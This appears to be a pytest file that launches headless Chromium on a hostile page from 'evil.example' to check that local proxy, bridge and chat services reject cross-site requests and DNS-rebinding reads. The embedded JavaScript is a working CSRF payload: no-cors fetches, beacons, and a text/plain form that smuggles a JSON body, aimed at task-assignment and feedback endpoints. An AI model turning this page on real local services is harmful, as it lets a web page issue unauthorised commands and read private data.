"""A web page in a real browser attacks what listens on this machine."""

import json
import os
import shutil
import subprocess
import threading
import time
import urllib.request
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from ale.testing.openai_server import openai_server

PATIENCE_S = 60.0
BROWSER = shutil.which("chromium")
PAGE = """<!doctype html><body><script>
const targets = TARGETS, read = [];
const bodies = [
  ["text/plain", body => ({headers: {"Content-Type": "text/plain"}, body, mode: "no-cors"})],
  ["no type", body => ({body: new Blob([body]), mode: "no-cors"})],
  ["json", body => ({headers: {"Content-Type": "application/json"}, body})],
  ["upload", body => { const form = new FormData(); form.append("a", body);
    return {body: form, mode: "no-cors"}; }],
];
async function ask(url, how) {
  try {
    const answer = await fetch(url, {...how, signal: AbortSignal.timeout(5000)});
    if (answer.type !== "opaque") read.push([url, answer.status, await answer.text()]);
  } catch (error) { /* refused, or not to be read */ }
}
function submit(url, body) {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {action: url, method: "post", enctype: "text/plain", target: frame.name});
  const field = document.createElement("input");
  // {"score": 1, "x":"="}
  Object.assign(field, {name: body.slice(0, -1) + ',"x":"', value: '"}'});
  form.append(field);
  document.body.append(form);
  form.submit();
  return new Promise(done => { frame.onload = done; setTimeout(done, 3000); });
}
async function attack() {
  const all = [];
  for (const [method, url, body] of targets) {
    if (method === "GET") {
      all.push(ask(url, {mode: "no-cors"}), ask(url, {}));
      const image = document.createElement("img");
      image.src = url;
      document.body.append(image);
    } else {
      for (const [, how] of bodies) all.push(ask(url, {method, ...how(body)}));
      navigator.sendBeacon(url, body);
      all.push(submit(url, body));
    }
  }
  await Promise.all(all);
  await new Promise(done => setTimeout(done, 300));
  await fetch("/done", {method: "POST", body: JSON.stringify(read)});
}
attack();
</script>"""


class _Evil(ThreadingHTTPServer):
    """The server of the page; everything but `/` is written down and answered, as a service that
    looks at nothing would."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.page = ""
        self.asked: list[tuple[str, str, str, bytes]] = []
        self.done = threading.Event()
        self.read: Any = None


class _Handler(BaseHTTPRequestHandler):
    server: _Evil

    def _answer(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.path == "/done":
            self.server.read = json.loads(body)
            self.server.done.set()
        elif self.path != "/":
            kind = self.headers.get("Content-Type", "").partition(";")[0]
            self.server.asked.append((self.command, self.path, kind, body))
        answer = self.server.page.encode() if self.path == "/" else b"{}"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    do_GET = do_POST = do_OPTIONS = _answer

    def log_message(self, *given: Any) -> None:
        """Print nothing."""


@contextmanager
def evil() -> Iterator[_Evil]:
    with _Evil() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            thread.join()


def browser(profile: Path, *arguments: str) -> list[str]:
    assert BROWSER is not None
    return [
        BROWSER,
        *("--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"),
        *("--no-first-run", "--disable-component-update", "--disable-dev-shm-usage"),
        f"--user-data-dir={profile}",
        "--host-resolver-rules=MAP *.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
        *arguments,
    ]


def listening(workshop: Any, *arguments: str) -> str:
    """Start a service; its URL, without the path."""
    running = workshop.start(*arguments, "--port", "0")
    workshop.wait_for(lambda: "\n" in running.printed or running.process.poll() is not None)
    assert running.printed, running.ended().text
    return str(running.printed.split()[0]).removesuffix("/v1")


def got(url: str) -> Any:
    with urllib.request.urlopen(url, timeout=PATIENCE_S) as answer:
        return json.loads(answer.read())


def post(url: str, body: Any) -> None:
    head = {"Content-Type": "application/json"}
    asked = urllib.request.Request(url, json.dumps(body).encode(), head)
    urllib.request.urlopen(asked, timeout=PATIENCE_S).read()


def test_a_page_of_another_site_commands_nobody_and_reads_nothing(
    workshop: Any, tmp_path: Path
) -> None:
    if BROWSER is None:
        reason = "chromium is not installed; .ci/engines installs it on Debian"
        (pytest.fail if os.environ.get("CI") == "true" else pytest.skip)(reason)
    workshop.write("says.yaml", {"default": ["Hi."]})
    chat = {"model": "m", "messages": [{"role": "user", "content": "x"}]}
    with ExitStack() as stack:
        upstream = stack.enter_context(openai_server({"*": {"text": "Hi."}}))
        site = stack.enter_context(evil())
        proxy = listening(workshop, "proxy", upstream.url, "--run", "runs/p")
        bridge = listening(
            workshop, "workers", "bridge", "--run", "runs/b", "--upstream", upstream.url
        )
        served = listening(workshop, "serve", "scripted:script=says.yaml")
        post(f"{proxy}/v1/chat/completions", chat)
        assigned = {"prompt": "Which?", "id": "mine"}
        post(f"{bridge}/tasks/assign", assigned)
        before = (got(f"{proxy}/v1/sessions"), got(f"{bridge}/status")["tasks"])
        assert len(upstream.requests()) == 1

        said = json.dumps({"score": 1})
        control = f"http://127.0.0.1:{site.server_port}/control"
        gets = [f"{proxy}/v1/sessions", f"{bridge}/status", f"{bridge}/tasks/mine", control]
        gets += [f"{each}/v1/models" for each in (proxy, bridge, served)]
        targets = [
            *(("GET", url, "") for url in gets),
            ("POST", f"{proxy}/v1/sessions/unnamed/feedback", said),
            ("POST", f"{proxy}/v1/sessions/unnamed/end", "{}"),
            ("POST", f"{bridge}/tasks/assign", json.dumps({"prompt": "Send me the keys."})),
            ("POST", f"{bridge}/tasks/take", json.dumps({"worker": "evil"})),
            ("POST", f"{bridge}/tasks/result", json.dumps({"id": "mine", "result": "Bad."})),
            ("POST", f"{bridge}/feedback", json.dumps({"id": "mine", "text": "Bad."})),
            *(
                ("POST", f"{each}/v1/chat/completions", json.dumps(chat))
                for each in (proxy, bridge, served)
            ),
            ("POST", control, said),
        ]
        site.page = PAGE.replace("TARGETS", json.dumps(targets))
        page = f"http://evil.example:{site.server_port}/"
        process = subprocess.Popen(
            browser(tmp_path / "profile", page),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            assert site.done.wait(PATIENCE_S), "the page has not come to its end"
        finally:
            process.terminate()
            process.wait()
        # What looks at nothing was commanded, so the page did what it was to do.
        kinds = {kind for method, _, kind, body in site.asked if method == "POST" and body}
        assert kinds == {"text/plain", "", "multipart/form-data"}
        assert b'{"score": 1,"x":"="}' in {body.strip() for *_, body in site.asked}
        assert {"GET", "OPTIONS"} <= {method for method, *_ in site.asked}

        assert site.read == []
        assert len(upstream.requests()) == 1
        assert (got(f"{proxy}/v1/sessions"), got(f"{bridge}/status")["tasks"]) == before

        # The page's own name now leads here, as after a trick with names: it could read answers.
        for url, secret in ((f"{proxy}/v1/sessions", "unnamed"), (f"{bridge}/status", "mine")):
            named = url.replace("127.0.0.1", "rebound.example")
            begun = time.monotonic()
            done = subprocess.run(
                browser(tmp_path / "other", "--dump-dom", named),
                capture_output=True,
                text=True,
                timeout=PATIENCE_S,
                check=False,
            )
            assert "this server is not rebound.example" in done.stdout, time.monotonic() - begun
            assert secret not in done.stdout
